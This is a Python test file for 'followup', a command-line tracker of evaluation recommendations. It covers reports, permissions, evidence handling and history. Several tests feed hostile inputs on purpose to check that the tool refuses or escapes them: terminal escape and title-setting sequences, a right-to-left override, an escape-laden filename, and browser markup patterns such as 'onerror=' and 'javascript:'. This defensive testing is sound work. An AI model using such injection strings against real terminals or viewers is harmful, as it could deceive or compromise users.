        s.ok("--as", "mprp", "respond", "PLACMI-2#2", "--file", response, "--as-of", "2001-09-05")

    def tearDown(self):
        self.tmp.cleanup()

    def as_(self, user, *args):
        return self.store.run("--as", user, *args)

    def test_status_report_shows_on_time_and_late_units(self):
        report = self.store.json("--as", "dg", "report", "status", "--as-of", "2001-09-10", "--json")
        recs = {r["ref"]: r for r in report["recommendations"]}
        self.assertEqual(recs["PLACMI-2#1"]["response"], "on_time")
        self.assertEqual(recs["PLACMI-2#2"]["response"], "late")
        units = {u["unit"]: u for u in recs["PLACMI-2#2"]["units"]}
        self.assertEqual(units["MPRP"]["on_time"], False)
        self.assertEqual(units["MPRP"]["days_late"], 5)
        self.assertEqual(units["MMS"]["on_time"], True)
        self.assertIn("footer", report)
        for fmt in ("text", "markdown", "csv"):
            out = self.store.ok("--as", "dg", "report", "status", "--as-of", "2001-09-10", "--format", fmt)
            self.assertIn("PLACMI-2#2", out)

    def test_the_whole_status_report_streamed_is_the_report_in_every_format(self):
        # --limit 0 prints the detail as it is read; on this small store it is
        # byte for byte the report of a limit larger than the detail, in every
        # format, with and without a starting reference.
        for fmt in ("json", "text", "markdown", "csv"):
            for after in ((), ("--after", "PLACMI-2#1")):
                with self.subTest(format=fmt, after=after):
                    base = ("--as", "dg", "report", "status", "--as-of", "2001-09-10", "--format", fmt) + after
                    streamed = self.store.ok(*base, "--limit", "0")
                    self.assertEqual(streamed, self.store.ok(*base, "--limit", "1000"))
                    self.assertIn("PLACMI-2#2", streamed)
                    self.assertEqual("PLACMI-2#1," in streamed or "PLACMI-2#1 " in streamed
                                     or '"PLACMI-2#1"' in streamed, not after)

    def test_the_whole_overdue_report_streamed_is_the_report_in_every_format(self):
        # --limit 0 hands the lists over a window of days at a time; on this
        # small store it prints what a limit larger than the lists prints (but
        # for JSON's "limit", null for all).
        for fmt in ("json", "text", "markdown", "csv"):
            for as_of in ("2001-09-01", "2002-04-15"):
                with self.subTest(format=fmt, as_of=as_of):
                    base = ("--as", "eva", "report", "overdue", "--as-of", as_of, "--format", fmt)
                    streamed = self.store.ok(*base, "--limit", "0")
                    held = self.store.ok(*base, "--limit", "1000")
                    if fmt == "json":
                        self.assertEqual(streamed, held.replace('"limit": 1000,', '"limit": null,'))
                        self.assertIsNone(json.loads(streamed)["limit"])
                    else:
                        self.assertEqual(streamed, held)
        report = self.store.json("--as", "eva", "report", "overdue", "--as-of", "2002-04-15", "--limit", "0",
                                 "--json")
        self.assertEqual([(a["unit"], a["due"]) for a in report["actions"]],
                         [("MRF-BA", "2001-10-31"), ("MMS", "2001-12-31"), ("MPRP", "2002-03-31")])

    def test_overdue_report_lists_only_the_unit_outstanding(self):
        report = self.store.json("--as", "eva", "report", "overdue", "--as-of", "2001-09-01", "--json")
        outstanding = [(r["ref"], r["unit"]) for r in report["responses"]]
        self.assertEqual(outstanding, [("PLACMI-2#2", "MPRP")])
        self.assertEqual(report["responses"][0]["ageing"], "1-30")
        self.assertEqual(report["limit"], 1000, "the default: the 1,000 most overdue of each list")

    def test_overdue_report_keeps_the_most_overdue_up_to_the_limit(self):
        # All three key actions are overdue on 2002-04-15; the two most overdue are kept.
        report = self.store.json("--as", "eva", "report", "overdue", "--as-of", "2002-04-15", "--limit", "2",
                                 "--json")
        self.assertEqual([(a["unit"], a["due"]) for a in report["actions"]],
                         [("MRF-BA", "2001-10-31"), ("MMS", "2001-12-31")])
        self.assertEqual(report["limit"], 2)
        self.assertEqual(sum(report["ageing"]["actions"].values()), 3, "the counts are of all")
        # By unit, of all three: each action counts for its owner.
        none = {"1-30": 0, "31-90": 0, "91-180": 0, "181-365": 0, "over 365": 0}
        self.assertEqual(report["by_unit"], [{"unit": u, "responses": none, "actions": 1}
                                             for u in ("MMS", "MPRP", "MRF-BA")])
        text = self.store.ok("--as", "eva", "report", "overdue", "--as-of", "2002-04-15", "--limit", "2")
        self.assertIn("Overdue responses and actions: the 2 most overdue of each (of 0 responses and 3 actions)",
                      text)
        self.assertIn("\n\nOverdue by unit\n"
                      "unit    1-30 days  31-90 days  91-180 days  181-365 days  over 365 days  overdue actions\n"
                      "MMS     0          0           0            0             0              1\n"
                      "MPRP    0          0           0            0             0              1\n"
                      "MRF-BA  0          0           0            0             0              1\n\n"
                      "Overdue responses and actions: the 2 most", text)
        everything = self.store.json("--as", "eva", "report", "overdue", "--as-of", "2002-04-15", "--limit", "0",
                                     "--json")
        self.assertEqual(len(everything["actions"]), 3)
        self.assertIsNone(everything["limit"])
        r = self.as_("eva", "report", "overdue", "--after", "PLACMI-2#1")
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(),
                         "followup: report overdue takes no --after (only status's detail is paged)\n")

    def test_refusals_change_nothing(self):
        before = dump(self.store.path)
        r = self.as_("mms", "respond", "PLACMI-2#1", "--unit", "MRF-BA", "--decision", "accepted",
                     "--as-of", "2001-08-21")
        self.assertEqual(r.returncode, 1)
        self.assertIn("MRF-BA", r.stderr.decode())
        r = self.as_("mms", "validate", "PLACMI-2#2", "--rating", "implemented", "--comment", "x")
        self.assertEqual(r.returncode, 1)
        self.assertIn("cannot validate", r.stderr.decode())
        r = self.as_("nobody", "list")
        self.assertEqual(r.returncode, 1)
        self.assertIn("no user 'nobody'", r.stderr.decode())
        self.assertEqual(before, dump(self.store.path))

    def test_small_mistakes_are_clear_errors_that_change_nothing(self):
        before = dump(self.store.path)
        mprp_file = os.path.join(self.tmp.name, "mprp-again.json")
        with open(mprp_file, "w") as f:
            json.dump({"unit": "MPRP", "decision": "accepted"}, f)
        done = str(self.action_ids[0])
        cases = [
            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "", "--as-of", "2001-10-20"),
             1, "followup: --comment is empty\n"),
            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "  ", "--as-of",
              "2001-10-20"), 1, "followup: --comment is empty\n"),
            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text", "x",
              "--action-done", done, "--action-done", done, "--as-of", "2001-10-15"),
             1, f"followup: action {done} is given twice as done\n"),
            (("eva", "list", "--unit", ""), 1, "followup: --unit is empty\n"),
            (("eva", "list", "--as-of", ""), 1, "followup: --as-of is empty\n"),
            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "x", "--as-of", ""),
             1, "followup: --as-of is empty\n"),
            (("eva", "edit", "PLACMI-2#1", "--units", ",,,"), 1, "followup: no unit given\n"),
            (("mms", "respond", "PLACMI-2#2", "--file", mprp_file, "--unit", "MMS"),
             1, f"followup: --unit 'MMS' conflicts with the unit 'MPRP' in {mprp_file}\n"),
            (("mprp", "respond", "PLACMI-2#2", "--file", mprp_file, "--decision", "accepted"),
             1, "followup: --file cannot be combined with --decision, --rationale or --action\n"),
        ]
        for (user, *args), code, message in cases:
            with self.subTest(args=args):
                r = self.as_(user, *args)
                self.assertEqual((r.returncode, r.stderr.decode()), (code, message))
        r = self.as_("dg", "report", "status", "--format", "csv", "--json")
        self.assertEqual(r.returncode, 2)
        self.assertIn("--format excludes --json", r.stderr.decode())
        self.assertEqual(r.stdout, b"")
        r = self.as_("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
                     "x", "--as-of", "9999-12-31")
        self.assertEqual(r.returncode, 1)
        self.assertRegex(r.stderr.decode(), r"^followup: cannot report progress on PLACMI-2#1: it is dated 9999-12-31, "
                                            r"after today \(\d{4}-\d\d-\d\d\); nothing is dated in the future\n$")
        self.assertEqual(before, dump(self.store.path))

    def test_typed_text_refuses_control_characters(self):
        before = dump(self.store.path)
        deep = os.path.join(self.tmp.name, "deep.json")
        with open(deep, "w") as f:
            f.write('{"unit": "MPRP", "decision": "accepted", "x": ' + "[" * 64 + "]" * 64 + "}")
        bell = os.path.join(self.tmp.name, "bell.json")
        with open(bell, "w") as f:
            json.dump({"decision": "partially_accepted", "rationale": "why\u0007"}, f)
        cases = [
            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
              "a\x1b[2J", "--as-of", "2001-10-15"),
             "followup: --text contains a control character (U+001B) at byte 1\n"),
            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
              b"ok\xff", "--as-of", "2001-10-15"), "followup: --text is not valid UTF-8 at byte 2\n"),
            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
              "x" * 65537, "--as-of", "2001-10-15"), "followup: --text is longer than 65536 bytes\n"),
            (("ba", "add-action", "PLACMI-2#1", "--unit", "MRF-BA", "--action", "Do\rit|MRF-BA|2001-12-31",
              "--as-of", "2001-10-15"),
             "followup: --action's description contains a control character (U+000D) at byte 2\n"),
            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "seen\u009b",
              "--as-of", "2001-10-20"), "followup: --comment contains a control character (U+009B) at byte 4\n"),
            (("eva", "close", "PLACMI-2#1", "--outcome", "implemented", "--waive-evidence", "\x7f",
              "--as-of", "2001-10-20"),
             "followup: --waive-evidence contains a control character (U+007F) at byte 0\n"),
            (("mprp", "respond", "PLACMI-2#1", "--file", bell),
             f"{bell}: rationale contains a control character (U+0007) at byte 3\n"),
            (("mprp", "respond", "PLACMI-2#1", "--file", deep), f"{deep}: nested deeper than 64 levels\n"),
            (("root", "user", "add", "x", "--role", "viewer", "--full-name", "X\x1b]0;owned\x07"),
             "followup: full name contains a control character (U+001B) at byte 1\n"),
            (("eva", "unit", "add", "FIN", "--name", "Fin\x1b[8m"),
             "followup: name contains a control character (U+001B) at byte 3\n"),
        ]
        for (user, *args), message in cases:
            with self.subTest(args=[a[:40] for a in args]):
                r = self.as_(user, *args)
                self.assertEqual((r.returncode, r.stderr.decode()), (1, message))
        self.assertEqual(before, dump(self.store.path))

    def test_text_output_escapes_terminal_controls(self):
        # Text stored before the checks existed (or written by hand) must not drive the terminal.
        conn = sqlite3.connect(self.store.path)
        conn.execute("UPDATE recommendations SET text = 'Clear \x1b[2J\x1b]0;owned\x07 \u202eadd \u009b31m' "
                     "WHERE number = 1")
        conn.execute("UPDATE key_actions SET description = 'Meet \x1b[8mhidden'")
        # As for a memo imported before memos were kept as sent: the memo is
        # rebuilt from the recommendations' text.
        conn.execute("DELETE FROM memo_originals")
        conn.commit()
        conn.close()
        outputs = {
            "show": self.store.run("--as", "eva", "show", "PLACMI-2#1", "--as-of", "2002-01-10"),
            "list": self.store.run("--as", "eva", "list", "--as-of", "2002-01-10"),
            "memo text": self.store.run("--as", "eva", "memo", "PLACMI-2"),
            "memo markdown": self.store.run("--as", "eva", "memo", "PLACMI-2", "--format", "markdown"),
            "report overdue": self.store.run("--as", "eva", "report", "overdue", "--as-of", "2002-01-10"),
            "report unit": self.store.run("--as", "eva", "report", "unit", "MRF-BA", "--as-of", "2002-01-10",
                                          "--format", "markdown"),
        }
        for name, r in outputs.items():
            with self.subTest(output=name):
                self.assertEqual(r.returncode, 0, r.stderr.decode())
                for raw in (b"\x1b", b"\x07", "\u202e".encode(), "\u009b".encode()):
                    self.assertNotIn(raw, r.stdout)
        self.assertIn(b"Clear \\x1B[2J\\x1B]0;owned\\x07 \\u202Eadd \\u009B31m", outputs["show"].stdout)
        self.assertIn(b"Meet \\x1B[8mhidden", outputs["report overdue"].stdout)
        self.assertIn(b"\\x1B[2J", outputs["memo markdown"].stdout)

    def test_evidence_names_are_made_safe_and_the_original_kept_in_history(self):
        hostile = os.path.join(self.tmp.name, "minutes\x1b[31m\u202etxt.pdf")
        with open(hostile, "wb") as f:
            f.write(b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
        self.store.ok("--as", "ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status",
                      "in_progress", "--text", "Minutes attached", "--evidence", hostile, "--as-of", "2001-10-15")
        shown = self.store.json("--as", "eva", "show", "PLACMI-2#1", "--json", "--history", "--as-of", "2001-10-16")
        self.assertEqual(shown["evidence"][0]["name"], "minutes[31mtxt.pdf")
        after = shown["history"][-1]["after"]
        self.assertEqual(after["evidence"][0]["name"], "minutes[31mtxt.pdf")
        self.assertEqual(after["evidence"][0]["original_name"], "minutes\\x1B[31m\\u202Etxt.pdf")

    def test_evidence_is_judged_as_a_browser_would(self):
        before = dump(self.store.path)
        refused = {
            "hostile-pdf-with-html.pdf": "(application/pdf) contains markup a browser would run ('<html')",
            "hostile-svg-after-text.txt": "(text/plain) contains markup a browser would run ('<svg')",
            "hostile-onerror.txt": "(text/plain) contains markup a browser would run ('onerror=')",
            "hostile-javascript-url.txt": "(text/plain) contains markup a browser would run ('javascript:')",
            "hostile-utf16-script.txt": "is text/html, which is not an allowed type",
            "hostile-python.txt": "is text/x-script.python, which is not an allowed type",
        }
        for name, problem in refused.items():
            with self.subTest(file=name):
                r = self.as_("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress",
                             "--text", "See attached", "--evidence", os.path.join(EVIDENCE, name),
                             "--as-of", "2001-10-15")
                self.assertEqual((r.returncode, r.stderr.decode()), (1, f"followup: evidence '{name}' {problem}\n"))
        self.assertEqual(before, dump(self.store.path))
        # The office may allow a type explicitly, and plain files pass.
        r = self.store.run("--as", "ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status",
                           "in_progress", "--text", "See attached", "--evidence",
                           os.path.join(EVIDENCE, "hostile-pdf-with-html.pdf"), "--evidence",
                           os.path.join(EVIDENCE, "plain-minutes.pdf"), "--evidence",
                           os.path.join(EVIDENCE, "plain-notes.txt"), "--as-of", "2001-10-15",
                           env_extra={"FOLLOWUP_EVIDENCE_ALLOW_ACTIVE": "application/pdf"})
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.assertEqual(r.stdout.decode().count("  evidence "), 3)

    def test_closing_needs_evidence_then_succeeds_with_it(self):
        r = self.as_("eva", "close", "PLACMI-2#1", "--outcome", "implemented", "--as-of", "2001-11-01")
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(),
                         "followup: cannot close PLACMI-2#1 as implemented: the office has not rated it implemented "
                         "(no validation); validate it first, or override with a reason\n")
        minutes = os.path.join(self.tmp.name, "minutes.pdf")
        with open(minutes, "wb") as f:
            f.write(b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
        with open(minutes, "rb") as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        out = self.store.ok("--as", "ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status",
                            "implemented", "--text", "The meeting took place", "--action-done",
                            str(self.action_ids[0]), "--evidence", minutes, "--as-of", "2001-10-15")
        self.assertIn(digest, out)
        self.store.ok("--as", "eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment",
                      "Minutes seen", "--as-of", "2001-10-20")
        self.store.ok("--as", "eva", "close", "PLACMI-2#1", "--outcome", "implemented", "--as-of", "2001-11-01")
        shown = self.store.json("--as", "auditor", "show", "PLACMI-2#1", "--json", "--as-of", "2001-11-02")
        self.assertEqual(shown["state"], "closed_implemented")
        self.assertEqual(shown["evidence"][0]["sha256"], digest)
        self.assertEqual(shown["evidence"][0]["name"], "minutes.pdf")
        self.assertEqual(shown["office_rating"], "implemented")
        self.assertEqual(shown["unit_states"][0]["claimed_status"], "implemented")
        self.assertEqual([a["status"] for a in shown["actions"]], ["done", "not_started"])

    def test_office_can_close_with_its_own_evidence(self):
        letter = os.path.join(self.tmp.name, "confirmation.txt")
        with open(letter, "w") as f:
            f.write("MMS and MPRP confirm the study of PLACMI's mechanisms was completed.\n")
        with open(letter, "rb") as f:
            digest = hashlib.sha256(f.read()).hexdigest()
        out = self.store.ok("--as", "eva", "close", "PLACMI-2#2", "--outcome", "implemented", "--evidence",
                            letter, "--override", "Confirmed in writing by both directors", "--as-of", "2002-05-01")
        self.assertIn(digest, out)
        shown = self.store.json("--as", "eva", "show", "PLACMI-2#2", "--json", "--as-of", "2002-05-02")
        self.assertEqual(shown["closure"]["evidence"][0]["sha256"], digest)
        self.assertIn(digest, [e["sha256"] for e in shown["evidence"]])

    def test_history_lists_every_step_with_its_actor(self):
        self.assertIn("verified", self.store.ok("verify-history"))
        shown = self.store.json("--as", "eva", "show", "PLACMI-2#2", "--history", "--json", "--as-of", "2001-09-10")
        steps = [(h["action"], h["actor"]) for h in shown["history"]]
        self.assertEqual(steps, [("import", "eva"), ("issue", "eva"), ("respond", "mms"), ("respond", "mprp")])
        responses = {r["unit"]: r for r in shown["responses"]}
        self.assertEqual(responses["MMS"]["on_time"], True)
        self.assertEqual(responses["MPRP"]["on_time"], False)
        self.assertEqual(responses["MPRP"]["responded_on"], "2001-09-05")

    def test_unit_user_sees_only_its_units(self):
        rows = self.store.json("--as", "mms", "list", "--json")
        self.assertEqual([r["ref"] for r in rows], ["PLACMI-2#1", "PLACMI-2#2"])  # MMS owns an action of #1
        rows = self.store.json("--as", "mprp", "list", "--json")
        self.assertEqual([r["ref"] for r in rows], ["PLACMI-2#2"])
        r = self.as_("mprp", "show", "PLACMI-2#1")
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(), "followup: no recommendation PLACMI-2#1\n")
        report = self.store.json("--as", "mprp", "report", "unit", "MPRP", "--as-of", "2001-09-10", "--json")
        self.assertEqual([i["kind"] for i in report["items"]], ["action"])


def netstring(text):
    data = text.encode("utf-8")
    return str(len(data)).encode() + b":" + data + b","


def canonical_content(memo):
    """docs/import.md, "The memo's identity", from a dry run's JSON."""
    out = netstring("followup-memo-1") + netstring(memo["evaluation"]["code"])
    out += netstring(memo["evaluation"]["title"]) + netstring(memo["memo"]["date"] or "")
    out += netstring(memo["memo"]["from"]) + netstring(memo["memo"]["subject"])
    for names in (memo["memo"]["to"], memo["memo"]["cc"]):
        out += netstring(str(len(names))) + b"".join(netstring(n) for n in names)
    out += netstring(str(len(memo["recommendations"])))
    for rec in memo["recommendations"]:
        out += netstring(str(rec["number"])) + netstring(rec["text"]) + netstring(rec["due"])
        out += netstring(str(len(rec["responsible"]))) + b"".join(netstring(n) for n in rec["responsible"])
    return out


def legacy_content_hash(memo):
    """The hash before the canonical form: the dry run's JSON without
    warnings and units, compact, keys sorted."""
    old = {"memo": memo["memo"], "evaluation": memo["evaluation"],
           "recommendations": [{k: r[k] for k in ("number", "text", "responsible", "due")}
                               for r in memo["recommendations"]]}
    text = json.dumps(old, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


class StoreBeforeCanonicalHashTest(unittest.TestCase):
    """A store made by followup before the canonical content hash
    (tests/data/stores/before-canonical-hash.sql, written by that binary:
    PLACMI-2 imported; RRP-WA imported with --add-units, then #1 edited
    before issue). Its old-form hashes are brought to the canonical form by
    a journaled write with its own history entry, so verify-history passes
    before and after."""

    STORES = os.path.join(HERE, "..", "data", "stores")

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.store = Store(self.tmp.name, init=False)
        os.makedirs(os.path.dirname(self.store.path))
        conn = sqlite3.connect(self.store.path)
        with open(os.path.join(self.STORES, "before-canonical-hash.sql"), encoding="utf-8") as f:
            conn.executescript(f.read())
        conn.close()
        with open(os.path.join(self.STORES, "before-canonical-hash.key"), encoding="utf-8") as f:
            key = f.read()
        with open(self.store.path + ".key", "w", encoding="utf-8") as f:
            f.write(key)
        os.chmod(self.store.path + ".key", 0o600)
        self.seed = self.store.json("import", "--dry-run", "--json", SEED)
        self.pipes = self.store.json("import", "--dry-run", "--json", os.path.join(MEMOS, "markdown-pipes.md"),
                                     "--add-units")

    def tearDown(self):
        self.tmp.cleanup()

    def hashes(self):
        conn = sqlite3.connect(self.store.path)
        try:
            return dict(conn.execute("SELECT code, content_hash FROM evaluations"))
        finally:
            conn.close()

    def rehash_entries(self):
        conn = sqlite3.connect(self.store.path)
        try:
            return [(e, json.loads(b), json.loads(a)) for e, b, a in conn.execute(
                "SELECT entity, before, after FROM history WHERE action = 'rehash' ORDER BY id")]
        finally:
            conn.close()

    def test_the_store_holds_old_form_hashes(self):
        self.assertIn("verified", self.store.ok("verify-history"))
        self.assertEqual(self.hashes(), {"PLACMI-2": legacy_content_hash(self.seed),
                                         "RRP-WA": legacy_content_hash(self.pipes)})

    def test_import_finds_a_memo_imported_before_by_its_old_hash_and_changes_nothing(self):
        before = dump(self.store.path)
        out = self.store.ok("import", SEED)
        self.assertIn("already imported as PLACMI-2", out)
        # The edited memo is still the one imported.
        out = self.store.ok("import", os.path.join(MEMOS, "markdown-pipes.md"), "--add-units")
        self.assertIn("already imported as RRP-WA", out)
        self.assertEqual(before, dump(self.store.path))
        self.assertEqual(self.rehash_entries(), [])

    def test_init_brings_every_hash_to_the_canonical_form(self):
        self.store.ok("init")
        canonical = {"PLACMI-2": hashlib.sha256(canonical_content(self.seed)).hexdigest(),
                     "RRP-WA": hashlib.sha256(canonical_content(self.pipes)).hexdigest()}
        self.assertEqual(self.hashes(), canonical)
        self.assertEqual(self.rehash_entries(), [
            ("evaluation:PLACMI-2", {"content_hash": legacy_content_hash(self.seed)},
             {"content_hash": canonical["PLACMI-2"], "form": "followup-memo-1"}),
            ("evaluation:RRP-WA", {"content_hash": legacy_content_hash(self.pipes)},
             {"content_hash": canonical["RRP-WA"], "form": "followup-memo-1"}),
        ])
        self.assertIn("verified", self.store.ok("verify-history"))
        out = self.store.ok("import", SEED)
        self.assertIn("already imported as PLACMI-2", out)

    def test_init_brings_the_hashes_up_to_date(self):
        out = self.store.ok("init")
        self.assertIn("2 content hashes brought to the canonical form", out)
        self.assertEqual(len(self.rehash_entries()), 2)
        self.assertIn("verified", self.store.ok("verify-history"))
        out = self.store.ok("init")
        self.assertNotIn("content hashes", out)
        self.assertEqual(len(self.rehash_entries()), 2)


if __name__ == "__main__":
    FOLLOWUP = os.path.abspath(sys.argv.pop(1))
    unittest.main(verbosity=2)
